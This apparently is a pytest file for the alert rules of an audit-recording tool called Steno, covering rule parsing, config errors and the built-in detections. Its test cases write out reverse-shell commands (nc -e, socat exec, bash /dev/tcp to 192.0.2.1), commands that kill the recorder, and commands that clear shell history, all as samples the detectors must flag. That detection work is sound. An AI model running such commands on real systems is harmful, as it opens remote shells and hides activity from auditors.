"""Alert rules: the file, its mistakes, and what the rules that come with Steno find."""

from __future__ import annotations

import re
from datetime import UTC, datetime
from pathlib import Path

import msgspec
import pytest

from steno.audit.event import Event, Process, Thing, Who
from steno.audit.reading import EventReader
from steno.errors import ConfigError
from steno.model import Verification
from steno.server.alert_rules import Rule, parse_rules
from steno.server.alert_watch import load_rules, read_own_rules
from steno.store.alert_matching import text_of
from steno.store.protocol import Summary
from steno.structs import convert

NOW = datetime(2026, 11, 20, 12, tzinfo=UTC)
DATA = Path(__file__).parents[1] / "data/audit"
OWN = parse_rules(read_own_rules(), "alerts.toml", NOW)
AVERY = Who(login_uid=1501, login_user="avery", uid=0, user="root")
SUMMARY = Summary("rec-1", "web1", "avery", 0, 0, False, 0, 0, Verification("complete", 0, None))


def rule(query: str) -> Rule:
    """Return a rule with this query."""
    text = f"[[rule]]\nname = 'r'\nseverity = 'low'\nquery = '''{query}'''\n"
    return parse_rules(text.encode(), "alerts.toml", NOW)[0]


def event(action: str, *names: str, result: str = "success", arguments: str = "") -> Event:
    """Return an event about files, or of a program that ran."""
    kind = "program" if action == "ran" else "file"
    return Event(
        1,
        0,
        action,
        convert(result, str),  # type: ignore[arg-type]
        host="web1",
        who=AVERY,
        process=Process(arguments=arguments.split(" ") if arguments else None),
        objects=[Thing(kind, name) for name in names],  # type: ignore[arg-type]
    )


def found_by(what: Event | str) -> set[str]:
    """Return which of Steno's own rules find an event or a line."""
    if isinstance(what, str):
        return {one.text.name for one in OWN if one.finds_line(what, SUMMARY)}
    return {one.text.name for one in OWN if one.may_find(what.action) and one.finds_event(what)}


@pytest.mark.parametrize(
    ("what", "expected"),
    [
        (event("wrote", "/etc/sudoers"), {"sudoers-written"}),
        (event("renamed", "/etc/sudoers.tmp", "/etc/sudoers"), {"sudoers-written"}),
        (event("created", "/etc/sudoers.d/evil"), {"sudoers-written"}),
        (event("changed mode of", "/etc/sudoers"), {"sudoers-written"}),
        (event("read", "/etc/sudoers"), set()),
        (event("wrote", "/etc/sudoers", result="failure"), set()),
        (event("wrote", "/home/blake/.ssh/authorized_keys"), {"authorized-keys-written"}),
        (event("read", "/home/blake/.ssh/authorized_keys"), set()),
        (event("read", "/etc/shadow", result="failure"), {"shadow-refused"}),
        (event("added user"), {"account-changed"}),
        (event("changed audit rules"), {"audit-rules-changed"}),
        (event("changed audit settings"), set()),
        (event("truncated", "/var/log/audit/audit.log"), {"audit-files-changed", "log-deleted"}),
        (event("deleted", "/var/log/auth.log"), {"log-deleted"}),
        (event("wrote", "/var/log/auth.log"), set()),
        (event("wrote", "/etc/steno/policy.toml"), {"recorder-changed"}),
        (event("deleted", "/home/avery/.bash_history"), {"history-cleared"}),
        (event("loaded module", "dummy"), {"kernel-module"}),
        (event("traced", "4711"), {"process-traced"}),
        (event("set clock"), {"clock-set"}),
        (event("ran", "/usr/bin/systemctl", arguments="systemctl stop steno-agent"),
         {"recorder-stopped"}),
        (event("ran", "/usr/bin/systemctl", arguments="systemctl status steno-agent"), set()),
        (event("ran", "/usr/bin/pkill", arguments="pkill -9 steno"), {"recorder-stopped"}),
        (event("ran", "/usr/bin/nc", arguments="nc -e /bin/sh 192.0.2.1 4444"), {"reverse-shell"}),
        (event("ran", "/usr/bin/nc", arguments="nc 192.0.2.1 4444 -e /bin/sh"), {"reverse-shell"}),
        (event("ran", "/usr/bin/nc", arguments="nc -z 192.0.2.1 22"), set()),
        (event("ran", "/usr/bin/socat", arguments="socat tcp:192.0.2.1:4444 exec:/bin/bash,pty"),
         {"reverse-shell"}),
        (event("ran", "/usr/bin/bash", arguments="bash -c exec 3<>/dev/tcp/192.0.2.1/4444"),
         {"reverse-shell"}),
        (event("ran", "/usr/bin/python3", arguments="python3 -c import pty;pty.spawn('sh')"),
         {"reverse-shell"}),
        (event("ran", "/usr/bin/ls", arguments="ls -l"), set()),
        ("avery@web1:~$ history -c", {"history-cleared-by-hand"}),
        ("$ unset HISTFILE; id", {"history-cleared-by-hand"}),
        ("$ export HISTFILE=/dev/null", {"history-cleared-by-hand"}),
        ("$ history | grep ssh", set()),
        ("$ HISTSIZE=1000", set()),
        ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", {"reverse-shell-typed"}),
        ("ls /dev/tcp", set()),
    ],
)  # fmt: skip
def test_the_rules_that_come_with_steno_find_what_they_say(
    what: Event | str, expected: set[str]
) -> None:
    """Each with what it is for, and next to it what it must leave alone."""
    assert found_by(what) == expected


def test_daemons_work_raises_nothing() -> None:
    """The same by nobody who has logged in: package scripts at boot, logrotate, auditd."""
    for action, name in (
        ("wrote", "/etc/sudoers"),
        ("deleted", "/var/log/x"),
        ("loaded module", "m"),
    ):
        quiet = msgspec.structs.replace(event(action, name), who=Who(uid=0, user="root"))
        assert found_by(quiet) == set()


def test_a_real_session_raises_what_happened_in_it() -> None:
    """Of f1's three sessions: a user was added and removed, and nothing else of that sort."""
    reader = EventReader()
    data = (DATA / "f1/audit-enriched.log").read_bytes()
    found = [
        (one.text.name, event.text)
        for event in reader.feed(data) + reader.finish()
        for one in OWN
        if one.finds_event(event)
    ]
    assert [name for name, _ in found] == ["account-changed", "account-changed"]


def test_rules_are_left_out_by_action_only_where_they_cannot_hold() -> None:
    """Looking only at the rules for an event's action and text finds the same."""
    events = []
    for log in ("f1/audit-enriched.log", "f2/audit-enriched-zoo.log"):
        reader = EventReader()
        events += reader.feed((DATA / log).read_bytes()) + reader.finish()
    more = [
        rule("file:/etc/"),
        rule("action:w* OR ran:ls"),
        rule('ran:"*grep -c *" OR ran:LS OR ran:"cat */shadow"'),
        rule("ran:*bin/v*"),
        rule("file:*tes.txt OR file:SHADOW OR file:/etc/"),
        rule("file:/home/*/notes*"),
        rule("(action:changed OR result:failure) login:avery"),
        rule("-action:ran result:success"),
    ]
    for one in [*OWN, *more]:
        for event in events:
            found = one.finds_event(event)
            assert not found or one.may_find(event.action)
            assert found == one.finds_event(event, text_of(event))


def test_a_line_is_looked_at_with_its_recording() -> None:
    """Fields of the recording and text must hold together, for one line."""
    one = rule('"permission denied" user:avery host:web* -sudo')
    assert one.is_for_lines
    assert one.finds_line("cat: /etc/shadow: Permission denied", SUMMARY)
    assert not one.finds_line("sudo: permission denied", SUMMARY)
    other = msgspec.structs.replace(SUMMARY, user="blake")
    assert not one.finds_line("permission denied", other)


@pytest.mark.parametrize(
    ("text", "line", "key", "reason"),
    [
        ("[[rule]]\nname='a'\nseverity='high'\nquery='user:x'\n", 4, "rule.query", "everything"),
        ("[[rule]]\nname='a'\nseverity='worst'\nquery='ran:x'\n", 3, "rule.severity", "severity"),
        ("[[rule]]\nname='a'\nseverity='low'\nquery='ran:x hello'\n", 4, "rule.query", "two rules"),
        ("[[rule]]\nname='a'\nseverity='low'\nquery='(x'\n", 4, "rule.query", "parenthesis"),
        ("[[rule]]\nname='a'\nseverity='low'\nquery='x longer:3m'\n", 4, "rule.query", "longer"),
        ("[[rule]]\nname='a'\nseverity='low'\nquery='ran:x'\n\nhm=1\n", 6, "rule.hm", "no such"),
        ("[[rule]]\nname='a'\nseverity='low'\n", 1, "rule", "query is missing"),
        ("[[rule]]\nname='A b'\nseverity='low'\nquery='ran:x'\n", 2, "rule.name", "small letters"),
        ("[[rule]]\nname='a'\nseverity='low'\nquery='x'\n[[rule]]\nname='a'\nseverity='low'\nquery='y'\n",
         6, "rule.name", "a rule before it"),
        ("\n[[rule\n", 2, None, "no TOML"),
    ],
)  # fmt: skip
def test_mistakes_are_named_by_line_and_key(
    text: str, line: int, key: str | None, reason: str
) -> None:
    """One line says what is wrong where; nothing of the file is in force."""
    with pytest.raises(ConfigError, match=reason) as caught:
        parse_rules(text.encode(), "alerts.toml", NOW)
    assert (caught.value.file, caught.value.line, caught.value.key) == ("alerts.toml", line, key)


def test_a_rule_that_is_not_enabled_is_checked_and_not_used() -> None:
    """It can be kept in the file; a mistake in it is told all the same."""
    text = "[[rule]]\nname='a'\nseverity='low'\nquery='{}'\nenabled=false\n"
    assert parse_rules(text.format("ran:x").encode(), "a", NOW) == ()
    with pytest.raises(ConfigError):
        parse_rules(text.format("user:x").encode(), "a", NOW)


def test_a_server_without_a_file_of_rules_has_stenos_own(tmp_path: Path) -> None:
    """An empty file means no rules; one that is named must be there."""
    assert len(load_rules(tmp_path / "alerts.toml", must_exist=False)) == len(OWN)
    with pytest.raises(ConfigError, match="no such file"):
        load_rules(tmp_path / "alerts.toml", must_exist=True)
    (tmp_path / "alerts.toml").write_text("")
    assert load_rules(tmp_path / "alerts.toml", must_exist=True) == ()


def test_the_documentations_rules_are_rules() -> None:
    """What docs/alerts.md shows can be put into a file as it stands."""
    text = (Path(__file__).parents[2] / "docs/alerts.md").read_text()
    blocks = re.findall(r"```toml\n(\[\[rule.*?)```", text, re.DOTALL)
    assert blocks
    for block in blocks:
        assert len(parse_rules(block.encode(), "alerts.md", NOW)) == 1


def test_stenos_own_rules_say_what_they_mean() -> None:
    """Each has a sentence for who gets the alert, short enough for a mail's line."""
    for one in OWN:
        assert one.text.description.endswith(".")
        assert len(one.text.description) < 160
